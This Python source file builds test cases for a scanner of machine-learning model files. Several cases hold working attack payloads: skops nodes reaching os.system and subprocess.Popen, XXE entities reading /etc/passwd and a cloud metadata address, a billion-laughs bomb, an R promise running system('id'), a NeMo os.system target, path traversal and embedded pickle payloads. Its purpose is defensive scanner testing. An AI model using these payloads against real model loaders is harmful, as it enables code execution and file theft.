"""Boosters, skops, PMML and XML, R, and the formats that a scanner may only recognise: what hides in them must not pass."""

import copy
import gzip
import io
import json
import struct
import zipfile

from pkl import EVIL, EVIL_0, value
from protobuf import message
from rawzip import Entry, archive

from .containers import ordinary_zip, tar_of
from .templates import SSTI, gguf, pair, STRING
from .torch_files import checkpoint, tensor


def make(corpus):
    xgboost(corpus)
    lightgbm(corpus)
    xml(corpus)
    r_files(corpus)
    recognised(corpus)
    corpus.run([skops])


def booster(**change):
    tree = {"base_weights": [0.0, 0.1, -0.1], "categories": [], "categories_nodes": [], "categories_segments": [], "categories_sizes": [],
            "default_left": [1, 0, 0], "id": 0, "left_children": [1, -1, -1], "loss_changes": [1.0, 0.0, 0.0], "parents": [2147483647, 0, 0],
            "right_children": [2, -1, -1], "split_conditions": [0.5, 0.1, -0.1], "split_indices": [0, 0, 0], "split_type": [0, 0, 0],
            "sum_hessian": [4.0, 2.0, 2.0], "tree_param": {"num_deleted": "0", "num_feature": "2", "num_nodes": "3", "size_leaf_vector": "1"}}  # fmt: skip
    tree.update(change)
    model = {"gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"}, "iteration_indptr": [0, 1], "tree_info": [0], "trees": [tree]}
    return {"learner": {"attributes": {}, "feature_names": [], "feature_types": [], "gradient_booster": {"model": model, "name": "gbtree"},
                        "learner_model_param": {"base_score": "5E-1", "boost_from_average": "1", "num_class": "0", "num_feature": "2", "num_target": "1"},
                        "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}}, "version": [2, 1, 0]}  # fmt: skip


def xgboost(corpus):
    honest = json.dumps(booster())

    def case(name, data, expected="not-pass", file="model.json", twin=honest, about=""):
        corpus.attack("xgboost", name, {file: data}, expected=expected, about=about, twin=twin and {file: twin})

    case("child-out-of-range", json.dumps(booster(left_children=[4096, -1, -1])))
    case("child-negative", json.dumps(booster(left_children=[-7, -1, -1])))
    case("cycle", json.dumps(booster(left_children=[0, -1, -1])), about="a node that is its own child: prediction never ends")
    case("feature-out-of-range", json.dumps(booster(split_indices=[90000, 0, 0])))
    case("lengths-differ", json.dumps(booster(split_conditions=[0.5])))
    case("node-count", json.dumps(booster(tree_param={"num_nodes": "2147483647", "num_feature": "2", "num_deleted": "0", "size_leaf_vector": "1"})))
    case("trailing-pickle", honest.encode() + b"\n" + EVIL)
    case("ubj-count", b"{L" + struct.pack(">q", 7) + b"learner[$d#L" + struct.pack(">q", 2**62), file="model.ubj", twin=None)
    case("ubj-deep", b"{i\x07learner" + b"[" * 100_000, file="model.ubj", twin=None)
    case("binary-header", b"binf" + struct.pack("<fIiii", 0.5, 2**31, -1, -1, -1) + bytes(100) + EVIL, file="model.bin", twin=None)


def lightgbm(corpus):
    honest = (
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\nobjective=regression\n"
        "feature_names=a b\nfeature_infos=[0:1] [0:1]\ntree_sizes=SIZE\n\nTree=0\nnum_leaves=2\nnum_cat=0\nsplit_feature=0\nsplit_gain=1\n"
        "threshold=0.5\ndecision_type=2\nleft_child=-1\nright_child=-2\nleaf_value=0.1 -0.1\nleaf_weight=2 2\nleaf_count=2 2\n"
        "internal_value=0\ninternal_weight=0\ninternal_count=4\nis_linear=0\nshrinkage=1\n\n\nend of trees\n\nfeature_importances:\na=1\n\n"
        "parameters:\n[boosting: gbdt]\nend of parameters\n\npandas_categorical:null\n"
    )

    honest = honest.replace("SIZE", str(honest.index("end of trees") - honest.index("Tree=0")))

    def case(name, old, new, about=""):
        data = honest.replace(old, new) if old else honest + new
        corpus.attack("lightgbm", name, {"model.txt": data}, expected="not-pass", about=about, twin={"model.txt": honest})

    case("child-out-of-range", "left_child=-1", "left_child=90000")
    case("cycle", "left_child=-1", "left_child=0")
    case("leaves-absurd", "num_leaves=2", "num_leaves=2147483647")
    case("feature-out-of-range", "split_feature=0", "split_feature=70000")
    case("lengths-differ", "leaf_value=0.1 -0.1", "leaf_value=0.1")
    case("trailing-pickle", "", "\n" + EVIL_0.decode())


def skops(corpus):
    import warnings

    import skops.io
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    import numpy

    warnings.simplefilter("ignore")
    fitted = make_pipeline(StandardScaler(), FunctionTransformer(numpy.arctan), LogisticRegression()).fit([[0.0, 1], [1, 0], [2, 2]], [0, 1, 1])
    honest = skops.io.dumps(fitted)
    with zipfile.ZipFile(io.BytesIO(honest)) as whole:
        entries = {name: whole.read(name) for name in whole.namelist()}
    schema = json.loads(entries["schema.json"])

    def case(name, change, expected="fail", about="", extra=None):
        data = copy.deepcopy(schema)
        data = change(data) or data
        text = data if isinstance(data, (str, bytes)) else json.dumps(data)
        corpus.attack("skops", name, {"model.skops": ordinary_zip({**entries, "schema.json": text, **(extra or {})})}, expected=expected,
                      about=about, twin={"model.skops": honest})  # fmt: skip

    def hang(state):
        """Puts a node into the state of the pipeline, beside its own attributes."""

        def change(data):
            data["content"]["content"]["memory"] = state

        return change

    def said(loader, module, name, content=None, **more):
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 9001, "content": content, **more}

    argument = said("TupleNode", "builtins", "tuple", [said("JsonNode", "builtins", "str", '"id"', is_json=True)])
    case("function-os", hang(said("FunctionNode", "os", "system", {"module_path": "os", "function": "system"})))
    case("type-popen", hang(said("TypeNode", "subprocess", "Popen", {"__class__": "Popen", "__module__": "subprocess"})))
    case("object-popen", hang(said("ObjectNode", "subprocess", "Popen", None)))
    case("method-of-os", hang(said("MethodNode", "builtins", "str", {"func": "system", "obj": said("FunctionNode", "os", "system")})),
         about="a method node whose class is a decoy (CVE-2025-54412)")  # fmt: skip
    case("operator-func", hang(said("OperatorFuncNode", "builtins", "call", {"attrs": argument})), about="CVE-2025-54413")
    case("operator-attrgetter", hang(said("OperatorFuncNode", "operator", "methodcaller", {"attrs": argument})), about="operator.methodcaller with chosen names", expected="not-pass")
    case("partial", hang(said("PartialNode", "functools", "partial", {"func": said("FunctionNode", "os", "system"), "args": argument, "kwds": None, "namespace": None})))
    case("reduce", hang(said("ReduceNode", "os", "system", {"reduce": {"args": argument}})))
    case("unknown-loader", hang(said("ShellNode", "builtins", "list", [])))
    case("loader-mismatch", hang(said("JsonNode", "subprocess", "check_output", '"id"')))
    case("class-dotted", hang(said("TypeNode", "sklearn.utils", "os.system", {})))
    case("pickle-inside", lambda data: None, extra={"blob.pkl": EVIL})
    from .carriers import OBJECT_HEADER, npy

    case("object-array", lambda data: None, extra={"9001.npy": npy(OBJECT_HEADER, EVIL)})
    case("schema-broken", lambda data: json.dumps(data)[:-40], "not-pass")
    case("schema-cycle", hang(said("CachedNode", "builtins", "list", None)), "not-pass")
    corpus.attack("skops", "really-pickle", {"model.skops": EVIL}, twin={"model.skops": honest}, about="Card.get_model falls back to joblib (CVE-2025-54886)")
    corpus.attack("skops", "schema-missing", {"model.skops": ordinary_zip({"1.npy": entries[next(n for n in entries if n.endswith(".npy"))]})}, expected="not-pass")


def xml(corpus):
    body = ('<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="c"/><DataDictionary numberOfFields="1">'
            '<DataField name="x" optype="continuous" dataType="double"/></DataDictionary><RegressionModel functionName="regression">'
            '<MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="1"><NumericPredictor name="x" coefficient="2"/>'
            "</RegressionTable></RegressionModel></PMML>")  # fmt: skip
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'

    def case(name, data, expected="fail", file="model.pmml", about=""):
        corpus.attack("xml", name, {file: data}, expected=expected, about=about, twin={file: head + body})

    named = body.replace('copyright="c"/>', 'copyright="c"><Application name="&x;"/></Header>')
    internal = body.replace('copyright="c"/>', 'copyright="c"><Annotation>&x;</Annotation></Header>')
    case("external-entity", f'{head}<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n{internal}')
    case("external-entity-http", f'{head}<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://169.254.169.254/">]>\n{internal}')
    case("parameter-entity", f'{head}<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://weights.invalid/e.dtd"> %p;]>\n{body}')
    case("external-dtd", f'{head}<!DOCTYPE PMML SYSTEM "http://weights.invalid/p.dtd">\n{body}')
    case("public-dtd", f'{head}<!DOCTYPE PMML PUBLIC "-//x//y" "ftp://weights.invalid/p.dtd">\n{body}')
    case("lower-case-in-comment", f'{head}<!-- <!DOCTYPE none> --><!DOCTYPE\n  PMML [\n <!ENTITY\tx  SYSTEM\n"file:///etc/hostname" >]>\n{named}')
    case("utf-16", (f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>{internal}').encode("utf-16"))
    case("utf-7-claim", f'<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE PMML [+ADwAIQ-ENTITY x SYSTEM "file:///etc/passwd">]>{internal}', "not-pass")
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    case("billion-laughs", f'{head}<!DOCTYPE PMML [<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l9;">]>\n{internal}')
    case("quadratic", f'{head}<!DOCTYPE PMML [<!ENTITY x "{"a" * 50_000}">]>\n{internal.replace("&x;", "&x;" * 5000)}', "not-pass")
    case("xinclude", f'{head}{body.replace("<Header", "<xi:include xmlns:xi=%shttp://www.w3.org/2001/XInclude%s href=%sfile:///etc/passwd%s parse=%stext%s/><Header".replace("%s", chr(34)))}', "not-pass")
    case("stylesheet", f'{head}<?xml-stylesheet type="text/xsl" href="http://weights.invalid/x.xsl"?>\n{body}', "not-pass")
    case("deep", head + "<a>" * 200_000, "not-pass")
    case("openvino", f'{head}<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<net name="n" version="11"><layers/>&x;</net>', file="model.xml")


def r_files(corpus):
    """R's serialisation, XDR form: a promise is evaluated as soon as somebody touches it (CVE-2024-27322)."""

    def flags(kind, extra=0):
        return struct.pack(">I", kind | extra)

    def string(text):
        return flags(9, 0x40000) + struct.pack(">i", len(text)) + text.encode()

    symbol = lambda name: flags(1) + string(name)  # noqa: E731
    words = lambda text: flags(16) + struct.pack(">i", 1) + string(text)  # noqa: E731
    command = flags(6) + symbol("system") + flags(2) + words("id") + flags(254)  # LANGSXP system("id")
    promise = flags(5) + flags(254) + flags(251) + command
    start = b"X\n" + struct.pack(">iii", 3, 0x040300, 0x030500) + struct.pack(">i", 5) + b"UTF-8"
    old = b"X\n" + struct.pack(">iii", 2, 0x040300, 0x020300)
    honest = old + words("weights")
    for name, data in (("promise", start + promise), ("promise-gz", gzip.compress(old + promise)), ("promise-in-list", old + flags(19) + struct.pack(">i", 1) + promise),
                       ("call", old + command)):  # fmt: skip
        corpus.attack("r-data", name, {"model.rds": data}, expected="not-pass", about="a promise that runs system('id')", twin={"model.rds": honest})
    corpus.attack("r-data", "rdata", {"model.RData": gzip.compress(b"RDX2\n" + old + flags(2, 0x400) + symbol("m") + promise + flags(254))}, expected="not-pass")


def recognised(corpus):
    def case(name, files, twin=None, expected="fail", about=""):
        corpus.attack("other-formats", name, files, expected=expected, about=about, twin=twin)

    target = "target: x\nmodel:\n  _target_: {}\n  cmd: id\n"
    nemo = lambda t: tar_of(**{"./model_config.yaml": target.format(t).encode(), "./model_weights.ckpt": checkpoint(value({"w": tensor()}))})  # noqa: E731
    case("nemo-target", {"model.nemo": nemo("os.system")}, {"model.nemo": nemo("nemo.collections.asr.models.EncDecCTCModel")}, about="CVE-2025-23304")
    case("nemo-pickle", {"model.nemo": tar_of("w:gz", **{"./model_weights.ckpt": EVIL, "./model_config.yaml": b"a: 1\n"})})
    case("coreml-folder", {"Model.mlpackage/Manifest.json": "{}", "Model.mlpackage/Data/com.apple.CoreML/model.mlmodel": message(f1=5), "Model.mlpackage/Data/weights.pkl": EVIL})
    case("catboost-trailing", {"model.cbm": b"CBM1" + struct.pack("<I", 64) + bytes(64) + EVIL}, expected="not-pass")
    case("llamafile", {"model.llamafile": b"\x7fELF\x02\x01\x01" + bytes(505) + archive(Entry("model.gguf", gguf([pair("tokenizer.chat_template", STRING, SSTI["cycler"])])))})
    case("paddle-py-func", {"inference.pdmodel": message(f1=message(f1=0, f2=[], f4=[message(f3="feed"), message(f3="py_func")]))}, expected="not-pass")
    case("oci-layer", {"layer.tar.gz": tar_of("w:gz", **{"models/weights.bin": EVIL, "models/config.json": b"{}"})})
    case("mxnet", {"m-symbol.json": '{"nodes": []}', "m-0000.params": EVIL})
    case("executorch", {"model.pte": struct.pack("<I", 32) + b"ET12" + bytes(64) + EVIL}, expected="not-pass")
    case("torch7", {"net.t7": struct.pack("<ii", 4, 1) + b"\x03\0\0\0V 1\x0a\0\0\0nn.Network" + bytes(32) + EVIL_0}, expected="not-pass")
    case("cntk", {"model.dnn": b"B\0C\0N\0\0\0" + bytes(32) + EVIL}, expected="not-pass")
    case("spacy-model", {"meta.json": '{"lang": "en"}', "config.cfg": "[nlp]\nlang = \"en\"\n", "tagger/model": EVIL_0, "vocab/strings.json": "[]"})
    case("stanza", {"en/pos.pt": EVIL, "resources.json": "{}"})
    case("sentencepiece", {"spiece.model": EVIL, "config.json": "{}"})
    case("optimizer-shard", {"model.safetensors.index.json": '{"weight_map": {"w": "pytorch_model-00001-of-00002.bin"}}', "pytorch_model-00001-of-00002.bin": EVIL_0})
    case("index-traversal", {"model.safetensors.index.json": '{"metadata": {}, "weight_map": {"w": "../../../../etc/passwd"}}', "config.json": "{}"}, about="a shard outside the folder", expected="not-pass")
